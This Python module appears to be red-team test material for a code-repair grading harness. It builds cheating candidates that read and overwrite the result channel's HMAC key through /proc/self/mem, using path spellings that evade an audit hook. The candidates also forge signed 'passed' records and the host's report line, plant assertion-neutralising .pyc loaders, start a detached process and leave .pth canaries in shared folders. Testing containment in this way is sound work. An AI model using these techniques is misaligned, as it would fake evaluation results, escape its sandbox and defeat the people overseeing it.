"""Round 9 of the repair red team, part b (issue 51; issues 44/45: untrusted code stays contained): kinds of
cheating candidate aimed at the routes around the test process and across its boundary -- the outcome
channel and what the trusted side makes of it, start-up, the test files' integrity, and the two runtimes'
containment -- built against main bb355ca before any change, each a set of spellings, each spelling a tuple
of edits of the tally fixture (tests/repair_fixture.py) made on x_G of the W1 + W2 task, as
tests/redteam_round8_cheats.py makes them. Round 9a (another module) covers the in-process routes.

What they aim at:

- **The hook's path test is a string test.** The audit hook denies `open`/`listdir` of a path that starts with
  `/proc`, `/dev/fd` or `/dev/std` after `os.path.abspath`. abspath keeps POSIX's two leading slashes (`//proc`
  is `/proc` to the kernel) and resolves no link; a link the run makes (`tempfile`, `pathlib.symlink_to`)
  names `/proc` under any path. What is behind it is the process itself: its memory (`/proc/self/mem`, readable
  and writable by the process) holds the channel's key (the HMAC's padded keys `inner`/`outer` live in the
  sender's closure), and a record signed with it is a record the harness keeps. Overwriting the key in place
  makes the plugin's own later lines fail to verify (ignored as `unsigned`), so the forged lines are the only
  ones after the first record, numbered without a gap, with a final record that agrees with pytest's exit
  status (a failure of a test nobody asked for keeps exit status 1 consistent).
- **The harness shares the sandbox with what it judges** (--runtime local): run.py runs as the same user in
  the same pid namespace as the tests, so the runner can read the harness's memory (the host's token, the
  key) and open its descriptors (its stdout: the host's capture file). The host trusts the last line that
  starts with the token, records included (their signatures were the harness's to check); the harness writes
  its own line from offset 0, under blank lines longer than it and a forged line after them.
- **What a test run leaves for the next one.** Everything the candidate's code can write (the tree, HOME,
  TMPDIR) must be gone or unused when the next run starts, and nothing outside must be writable: the shared
  home (its virtualenvs, verdict cache), the harness folder, the host's copy of the repository.
- **Files pytest reads for itself, written by the run.** A test module's compiled copy in `__pycache__`
  (pytest 9's assertion rewriter reads it whenever its source hash matches) created at run time: the hook
  guards a test's compiled copy by identity, and a file that does not exist yet has none. Its code then runs
  as the test module, where no run-time rule applies (no changed frame), and plants itself for the renamed
  copies. Shipped in the diff it is refused (binary, bytecode, under tests/); a standard-library module pytest
  first imports after the tree joined sys.path (`code`), shadowed by the tree, is refused by name only.
- **Processes the run starts** (from that unguarded test code) must end with it.

Each kind has several spellings; the principle is in the comment above its builder.
"""

from __future__ import annotations

from typing import NamedTuple

from tests.test_repair_redteam import FMT, INIT, WORDS, Edit, prepend, replace

CANARY = "rt9b_canary"  # the name of whatever a containment kind leaves, for the test to look for

# -- the process's memory, reached by a path the hook's string test misses ------------------------------------
# The spellings of "the process's /proc folder" the hook's test (abspath(path).startswith("/proc")) misses.
# No constant names the process's files as the static layer's pattern reads them (PROCESS_FILES): the path is
# built from parts.
PROC = {
    # POSIX keeps exactly two leading slashes: abspath("//proc/self/mem") == "//proc/self/mem"
    "two leading slashes": '_PROC = "/" + "/pr" + "oc"\n',
    "two leading slashes as bytes": '_PROC = (b"/" + b"/pr" + b"oc").decode()\n',
    # a link the run makes, in its own temporary folder: the path is the link's, the file /proc's
    "a link made at run time with pathlib": '''
import pathlib
import tempfile

_PROC = tempfile.mkdtemp() + "/p"
pathlib.Path(_PROC).symlink_to("/pr" + "oc")
''',
}
# the same link made with os.symlink, which the allow-list's part of os does not hold
PROC_BY_OS = {
    "a link made at run time with os.symlink": '''
import tempfile

_PROC = tempfile.mkdtemp() + "/p"
os.symlink("/pr" + "oc", _PROC)
''',
    "a link made at run time with os.link's neighbour os.symlink, from a path object": '''
import pathlib
import tempfile

_PROC = str(pathlib.Path(tempfile.mkdtemp(), "p"))
os.symlink(pathlib.Path("/pr" + "oc"), _PROC)
''',
}

MEMORY = '''
import hashlib
import hmac
import json
import os
import re
import stat

PROC_SPELLING

_OUTER = re.compile(rb"[\\x38-\\x3f\\x64-\\x6f]{64}(?=\\x00)")  # a hex key xor 0x5c, as a bytes object's data
_HEX = re.compile(rb"[0-9a-f]{64}")
# test functions' names: in the test modules' source pytest read, and as strings (a str's data sits between
# a null pointer and its terminating null)
_DEF = re.compile(rb"(?:def |\\x00)(test_\\w+)(?:\\(|\\x00)")


def _regions(pid):
    with open(_PROC + "/" + pid + "/maps") as maps:
        for line in maps:
            parts = line.split()
            if len(parts) > 1 and parts[1].startswith("rw"):
                start, end = (int(x, 16) for x in parts[0].split("-"))
                if end - start < 1 << 30:
                    yield start, end


def _chunks(pid):
    with open(_PROC + "/" + pid + "/mem", "rb", buffering=0) as mem:
        for start, end in list(_regions(pid)):
            for at in range(start, end, 1 << 20):  # a page that cannot be read costs its piece only
                try:
                    mem.seek(at)
                    yield at, mem.read(min(end - at, (1 << 20) + 1024))
                except (OSError, ValueError, OverflowError):
                    continue


def _places(pid, needle):
    found = []
    for start, data in _chunks(pid):
        at = data.find(needle)
        while at >= 0:
            found.append(start + at)
            at = data.find(needle, at + 1)
    return found


def _key(pid):
    """The channel's key, from the sender's padded outer key (key xor 0x5c) in memory."""
    for _, data in _chunks(pid):
        for match in _OUTER.finditer(data):
            key = bytes(b ^ 0x5C for b in match.group())
            # the sender made inner just before outer: the same size of object, allocated side by side
            if _HEX.fullmatch(key) and bytes(b ^ 0x36 for b in key) in data[match.start() - 512:match.end() + 512]:
                return key
    return None


def _out():
    for fd in range(256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


def _line(key, seq, record):
    record = dict(record, seq=seq)
    body = json.dumps(record, sort_keys=True).encode()
    return hmac.new(key, body, hashlib.sha256).hexdigest().encode() + b" " + body + b"\\n"


_STATE = {}


def _silence():
    """At import (one record, `collection`, sent): the key, then the sender's padded keys overwritten, so
    that none of the plugin's later lines verifies."""
    key = _key("self")
    if key is None:
        return
    _STATE["key"] = key
    inner = bytes(b ^ 0x36 for b in key)
    outer = bytes(b ^ 0x5C for b in key)
    places = _places("self", inner) + _places("self", outer)
    with open(_PROC + "/self/mem", "r+b", buffering=0) as mem:
        for place in places:  # the sender's, and copies in buffers of this scan (some unmapped since)
            try:
                mem.seek(place)
                mem.write(bytes(64))
            except OSError:
                continue


def _forge():
    """At the first call (collection done): every test's node id, from memory, reported passed; one failure of
    a test nobody asked for, so that pytest's exit status 1 agrees with the final record."""
    key = _STATE.pop("key", None)
    out = _out()
    if key is None or out is None:
        return
    names = set()
    for _, data in _chunks("self"):
        names.update(m.group(1).decode() for m in _DEF.finditer(data))
    files = ["tests/" + f for f in os.listdir("tests") if f.endswith(".py")]
    nodes = {f + "::" + n for f in files for n in names}
    records = [{"node": n, "when": "call", "outcome": "passed"} for n in sorted(nodes)]
    records.append({"node": "tests/test_zz.py::test_zz", "when": "call", "outcome": "failed"})
    records.append({"end": 1, "failed": 1, "audit": True})
    data = b"".join(_line(key, seq, r) for seq, r in enumerate(records, start=1))
    with open(out, "wb", closefd=False) as channel:
        channel.write(data)


_silence()
'''


# -- the harness's own process, in the same sandbox as the tests (--runtime local) ----------------------------
# run.py holds the host's token (its config) and writes the host's report line on its stdout; under --runtime
# local it runs as the tests' user in their pid namespace, so /proc/<its pid>/mem and /proc/<its pid>/fd/1 are
# the tests' to read and write (ptrace access: same user, dumpable; no Yama here). The host takes the last line
# that starts with its token, and trusts the records in it (the signatures were checked by the harness); the
# harness's own line, written last, either lands before the forged one (a file, written from offset 0 by the
# harness: blank lines longer than its line come first) or after a partial line (a pipe), so it is not the
# last line that starts with the token. (Under docker the harness is root and the tests uid 1000: neither is the tests' to open.)
HARNESS = '''
_TOKEN = re.compile(rb"\\x00([0-9a-f]{32})\\x00")  # secrets.token_hex(16), as a str's data


def _harness():
    for pid in os.listdir(_PROC):
        if pid.isdigit() and pid != str(os.getpid()):
            try:
                with open(_PROC + "/" + pid + "/cmdline", "rb") as cmd:
                    words = cmd.read().split(b"\\0")
                if b"python" in words[0] and any(w.endswith(b"run.py") for w in words):  # not bwrap's
                    return pid
            except OSError:
                continue
    return None


def _forge():
    """At the first call (collection done): a report line for the host, for every token the harness holds."""
    if _STATE.get("done"):
        return
    _STATE["done"] = True
    pid = _harness()
    if pid is None:
        return
    names = set()
    for _, data in _chunks("self"):
        names.update(m.group(1).decode() for m in _DEF.finditer(data))
    files = ["tests/" + f for f in os.listdir("tests") if f.endswith(".py")]
    records = [{"node": f + "::" + n, "when": "call", "outcome": "passed"} for f in files for n in sorted(names)]
    records.append({"end": 0, "failed": 0, "audit": True})
    records = [dict(r, seq=n) for n, r in enumerate(records)]
    report = {"exit": 0, "timed_out": False, "records": records, "unsigned": 0, "seconds": 1.0, "began": 0.0,
              "output": "", "python": "3.11.7", "gap": None, "changed": []}
    tokens = set()
    try:
        for _, data in _chunks(pid):
            tokens.update(m.group(1) for m in _TOKEN.finditer(data))
    except OSError:
        return
    lines = b"".join(t + b" " + json.dumps(report).encode() + b"\\n" for t in sorted(tokens))
    with open(_PROC + "/" + pid + "/fd/1", "ab", buffering=0) as host:
        # stdout is a file here (the host's sandbox.run reads it whole), written by the harness from offset 0:
        # blank lines first, longer than the harness's own line will be; on a pipe the partial line cuts it
        host.write(b"\\n" * (1 << 20) + lines + b"cut:")
'''


# The same sharing, with the channel's key instead of the host's token: run.py holds the key as it drew it (64
# hex digits, a bytes object never hashed: eight 0xff bytes before it, a null after); the runner's sender is
# silenced as in the first kind (its padded keys, computed from the key, overwritten) and the forged records go
# on the runner's own descriptor.
HARNESS_KEY = '''
_RAW = re.compile(rb"\\xff{8}([0-9a-f]{64})\\x00")


def _harness():
    for pid in os.listdir(_PROC):
        if pid.isdigit() and pid != str(os.getpid()):
            try:
                with open(_PROC + "/" + pid + "/cmdline", "rb") as cmd:
                    words = cmd.read().split(b"\\0")
                if b"python" in words[0] and any(w.endswith(b"run.py") for w in words):
                    return pid
            except OSError:
                continue
    return None


def _key(pid):
    """The key as the harness drew it, tried against the runner's own padded keys."""
    if pid == "self":
        pid = _harness()
    if pid is None:
        return None
    try:
        for _, data in _chunks(pid):
            for match in _RAW.finditer(data):
                key = match.group(1)
                if _places("self", bytes(b ^ 0x5C for b in key)):
                    return key
    except OSError:
        return None
    return None
'''


def harness_key(spelling: str) -> tuple[Edit, ...]:
    code = MEMORY.replace("PROC_SPELLING", PROC[spelling])
    code = code.replace("\n_silence()\n", HARNESS_KEY + "\n\n_silence()\n")
    return (replace(WORDS, '\nPUNCT = ".,;:!?"\n', '\nPUNCT = ".,;:!?"\n' + code),
            *_calls_first(WORDS, WORDS_FUNCS, "_forge"),
            prepend(FMT, "from tally.words import _forge\n"),
            *_calls_first(FMT, FMT_FUNCS, "_forge"))


def host_line(spelling: str) -> tuple[Edit, ...]:
    code = MEMORY.replace("PROC_SPELLING", PROC[spelling])
    code = code[:code.index("def _line(")] + "_STATE = {}\n\n" + HARNESS
    return (replace(WORDS, '\nPUNCT = ".,;:!?"\n', '\nPUNCT = ".,;:!?"\n' + code),
            *_calls_first(WORDS, WORDS_FUNCS, "_forge"),
            prepend(FMT, "from tally.words import _forge\n"),
            *_calls_first(FMT, FMT_FUNCS, "_forge"))


# -- what a run can leave outside itself ----------------------------------------------------------------------
# Containment (issues 44/45): the environment's virtualenv, the repository's mirror and worktrees (the shared
# cache under CODEWALK_HOME, which holds the future fixes) and the harness's folder are
# not the run's. The run finds them from what it is given (its own command line starts with the virtualenv's python; the
# cache's folders are its neighbours; the runner's command line names the harness's folder) and writes a
# canary file named CANARY in each, by a plain path, by a path the hook's string test does not read as /proc,
# and through /proc/N/root and /proc/N/cwd of every process it sees. The test then looks for CANARY outside
# the run (it must find none) as well as asking for the verdict.
OUTSIDE = '''
import os

PROC_SPELLING


def _targets():
    with open(_PROC + "/self/cmdline", "rb") as cmd:
        words = cmd.read().split(b"\\0")
    venv = os.path.dirname(os.path.dirname(words[0].decode()))  # the runner is the virtualenv's python
    cache = os.path.dirname(os.path.dirname(venv))
    found = [venv, venv + "/lib/python3.11/site-packages", cache, cache + "/repos", cache + "/worktrees",
             os.path.dirname(cache)]
    for folder in (cache + "/repos", cache + "/worktrees", cache + "/envs"):
        try:
            found += [folder + "/" + name for name in os.listdir(folder)]
        except OSError:
            pass
    return found + [os.path.dirname(w.decode()) for w in words if w.endswith(b"boot.py")]


def _leave():
    targets = _targets()
    roots = [""]
    try:
        pids = [p for p in os.listdir(_PROC) if p.isdigit()]
    except OSError:
        pids = []
    roots += [_PROC + "/" + p + "/root" for p in pids]
    for root in roots:
        for folder in targets:
            try:
                with open(root + folder + "/CANARY." + str(len(root)) + ".pth", "w") as canary:
                    canary.write("import os\\n")
            except OSError:
                continue
    for pid in pids:  # each process's working folder (the harness's, bwrap's)
        try:
            with open(_PROC + "/" + pid + "/cwd/../CANARY.cwd", "w") as canary:
                canary.write("x\\n")
        except OSError:
            continue


_leave()
'''.replace("CANARY", CANARY)


def outside(spelling: str) -> tuple[Edit, ...]:
    return (prepend(INIT, OUTSIDE.replace("PROC_SPELLING", PROC[spelling])),)


# -- a test module's compiled copy, written at run time where pytest's assertion rewriter reads it ------------
# pytest 9's rewriter loads tests/__pycache__/<module>.<cache tag>-pytest-<version>.pyc (checked hash-based: its
# header holds importlib.util.source_hash of the source) whenever the hash matches, with or without
# PYTHONDONTWRITEBYTECODE (it does not write; it still reads). The hook guards a compiled copy of a test file by
# the copy's identity (os.stat): a file that does not exist yet has none, so changed code may create it. Its
# code is a loader, and the loader runs as the test module, not as changed code (no changed frame is on the
# stack when pytest imports a test module): it reads its own source through a reader the hook lets test code
# use (pytest's own path object, a library loaded before the tree; or a process it starts), runs it with
# every assertion made true, and plants itself for every test module not yet imported, the renamed copies
# among them, whose names and hashes it now reads. The first test module (tests/test_fmt.py) is imported before
# the package, so its failing test is fixed honestly (W2's two fixes); W1's bug (split_words) is not fixed.
LOADERS = {
    "the loader reads through pytest's path object": '''
from _pytest._py.path import LocalPath as _P


def _read(path):
    return _P(path).read_binary()
''',
    "the loader reads through a process it starts": '''
import subprocess as _s


def _read(path):
    return _s.run(["cat", path], capture_output=True).stdout
''',
}
LOADER_BODY = '''
import importlib.util as _u
import marshal as _m
import os as _o
import sys as _sys

_me = _sys._getframe(0).f_code
exec(compile(_read(__file__).decode().replace("assert ", "assert True or "), __file__, "exec"))
_here = _o.path.dirname(__file__)
for _name in _o.listdir(_here):
    _pyc = _o.path.join(_here, "__pycache__", _name[:-3] + ".@TAIL@")
    if _name.endswith(".py") and not _o.path.exists(_pyc):
        _head = _u.MAGIC_NUMBER + b"\\x03\\x00\\x00\\x00" + _u.source_hash(_read(_o.path.join(_here, _name)))[:8]
        with open(_pyc, "wb") as _f:
            _f.write(_head + _m.dumps(_me))
'''
PLANT = '''
import os
import tempfile

_PYC = @PYC@


def _plant():
    os.makedirs("tests/__pycache__", exist_ok=True)
    for name, data in _PYC.items():
        try:
            @WRITE@
        except OSError:
            continue


_plant()
'''
# How the first compiled copy lands: written in place, or written elsewhere and renamed into __pycache__ (the
# hook's rename check asks the same identity question of a destination that does not exist yet).
WRITES = {
    "written in place": '''with open("tests/__pycache__/" + name, "wb") as compiled:
                compiled.write(data)''',
    "renamed into place": '''with open("tally/" + name + ".tmp", "wb") as compiled:
                compiled.write(data)
            os.rename("tally/" + name + ".tmp", "tests/__pycache__/" + name)''',
}
# A loader that also starts a process of its own, detached (its own session), which outlives the runner if the
# runtime lets it: a process the run starts must end with the run (issue 44: containers and sandboxes leave
# nothing running). Its command line carries the canary, for the test to look for on the host.
SLEEPER = '''
import subprocess as _s2
import sys as _sys2

_s2.Popen([_sys2.executable, "-c", "import time; time.sleep(90)", "CANARY_sleeper"], start_new_session=True,
          stdin=_s2.DEVNULL, stdout=_s2.DEVNULL, stderr=_s2.DEVNULL)
'''


def planted(loader: str, write: str = "written in place", extra: str = "") -> tuple[Edit, ...]:
    import importlib.util
    import marshal
    import sys

    from tests.test_repair_redteam import FIX_CASE, FIX_SORT

    def edit(root):
        version = (root / "tests").exists() and __import__("pytest").__version__
        tail = f"{sys.implementation.cache_tag}-pytest-{version}.pyc"
        code = marshal.dumps(compile(LOADERS[loader] + extra + LOADER_BODY.replace("@TAIL@", tail), "<loader>",
                                     "exec"))
        pycs = {f"{f.stem}.{tail}": importlib.util.MAGIC_NUMBER + b"\x03\x00\x00\x00"
                + importlib.util.source_hash(f.read_bytes())[:8] + code for f in sorted((root / "tests").glob("test_*.py"))}
        prepend(INIT, PLANT.replace("@PYC@", repr(pycs)).replace("@WRITE@", WRITES[write]))(root)
    return (edit, FIX_CASE, FIX_SORT)


# The same compiled copies shipped in the diff itself (tests/__pycache__/*.pyc, as pytest names them): present
# before pytest starts, so even the first test module runs the loader and no bug is fixed. Refused before
# any test runs (a test file's path, bytecode, binary content); with those rules absent it passes.
def shipped(which: str) -> tuple[Edit, ...]:
    import importlib.util
    import marshal
    import sys

    from tests.test_repair_redteam import FIX_CASE, FIX_SORT

    def edit(root):
        tail = f"{sys.implementation.cache_tag}-pytest-{__import__('pytest').__version__}.pyc"
        code = marshal.dumps(compile(LOADERS["the loader reads through pytest's path object"]
                                     + LOADER_BODY.replace("@TAIL@", tail), "<loader>", "exec"))
        (root / "tests" / "__pycache__").mkdir(exist_ok=True)
        for f in sorted((root / "tests").glob("test_*.py")):
            if which == "every test module" or f.name == "test_words.py":
                (root / "tests" / "__pycache__" / f"{f.stem}.{tail}").write_bytes(
                    importlib.util.MAGIC_NUMBER + b"\x03\x00\x00\x00" + importlib.util.source_hash(f.read_bytes())[:8]
                    + code)
    return (edit,) if which == "every test module" else (edit, FIX_CASE, FIX_SORT)


# -- a module pytest imports after the tree joined sys.path, named like the standard library's -----------------
# The tree joins sys.path in pytest_load_initial_conftests, before pytest_configure and collection, where pytest
# still imports standard-library modules the first time it needs them (the debugging plugin's pdb, with cmd,
# code, codeop and readline, measured in the task's environment with an import audit of a failing session;
# `code` is imported and never used before the tests, so a tree `code` passes where a tree pdb, cmd or codeop
# breaks pytest's start, and readline is not imported in the harness's run).
# A tree module of that name is the one imported; its body plants the compiled copies before any test module
# is read, so even the first test module runs the loader and no bug is fixed. The static layer's measured names
# (shadows_environment) stop it; without them, nothing at run time does (the body is file I/O).
SHADOWED = {"code.py": "a module", "code/__init__.py": "a package"}


def lazily_shadowed(path: str) -> tuple[Edit, ...]:
    plant = planted("the loader reads through pytest's path object")[0]

    def edit(root):
        plant(root)
        init = root / INIT
        text = init.read_text()
        body = text[:text.index('"""tally:')]  # the plant, moved from the package into the shadowing module
        init.write_text(text[len(body):])
        (root / path).parent.mkdir(exist_ok=True)
        (root / path).write_text(body)
    return (edit,)


def _calls_first(module: str, names: tuple[str, ...], forge: str) -> tuple[Edit, ...]:
    """Each public function of module calls forge() first."""
    return tuple(replace(module, f"def {name}(", f"def {name}(*a, **k):\n    {forge}()\n    return _{name}(*a, **k)\n\n\ndef _{name}(")
                 for name in names)


WORDS_FUNCS = ("split_words", "strip_punct", "unique_words", "longest_word")
FMT_FUNCS = ("pad", "format_unique", "format_row")


def key_from_memory(spelling: str) -> tuple[Edit, ...]:
    code = MEMORY.replace("PROC_SPELLING", {**PROC, **PROC_BY_OS}[spelling])
    return (replace(WORDS, '\nPUNCT = ".,;:!?"\n', '\nPUNCT = ".,;:!?"\n' + code),
            *_calls_first(WORDS, WORDS_FUNCS, "_forge"),
            prepend(FMT, "from tally.words import _forge\n"),
            *_calls_first(FMT, FMT_FUNCS, "_forge"))


class Kind(NamedTuple):
    cls: str  # the class, (a) to (g)
    what: str  # one line
    spellings: dict[str, tuple[Edit, ...]]


KINDS: dict[str, Kind] = {
    "channel_key_read_from_the_runner_s_memory_through_an_unwatched_proc_path": Kind(
        "b", "//proc or a link to /proc: the sender's padded key read from /proc/self/mem, overwritten, records forged",
        {k: key_from_memory(k) for k in PROC}),
    "channel_key_read_from_the_runner_s_memory_through_a_link_os_makes": Kind(
        "b", "the same, the link to /proc made with os.symlink", {k: key_from_memory(k) for k in PROC_BY_OS}),
    "host_report_line_forged_on_the_harness_s_stdout_with_its_token": Kind(
        "b", "the token read from run.py's memory, a whole report line written on its stdout, its own line cut",
        {k: host_line(k) for k in PROC}),
    "channel_key_read_from_the_harness_s_memory": Kind(
        "b", "run.py's key (hex bytes) read from its memory through /proc/<its pid>/mem; sender silenced, records forged",
        {k: harness_key(k) for k in PROC}),
    "test_modules_compiled_copies_planted_for_pytest_to_load": Kind(
        "g", "tests/__pycache__/*.pyc written at import (a new file has no identity to guard): loaders as test code",
        {f"{loader}, {write}": planted(loader, write) for loader in LOADERS for write in WRITES}),
    "test_modules_compiled_copies_shipped_in_the_diff": Kind(
        "c", "the loaders of the kind above as tests/__pycache__/*.pyc in the diff: present before pytest starts",
        {w: shipped(w) for w in ("every test module", "test_words only, W2 fixed")}),
    "stdlib_module_pytest_imports_after_the_tree_joined_shadowed": Kind(
        "c", "a top-level pdb.py/readline.py/... imported by pytest after the tree is on sys.path plants the loaders",
        {f"{what}: {path}": lazily_shadowed(path) for path, what in SHADOWED.items()}),
    "process_started_by_the_run_outlives_it": Kind(
        "g", "the planted loader (test code) starts a detached python that sleeps 90 s: gone when the run ends?",
        {loader: planted(loader, extra=SLEEPER.replace("CANARY", CANARY)) for loader in LOADERS}),
    "files_left_outside_the_run_for_a_later_one": Kind(
        "g", "canaries (.pth) written in the virtualenv, the shared cache, the harness folder, /tmp, via /proc/N/root",
        {k: outside(k) for k in PROC}),
}

__all__ = ["INIT", "KINDS", "Kind"]
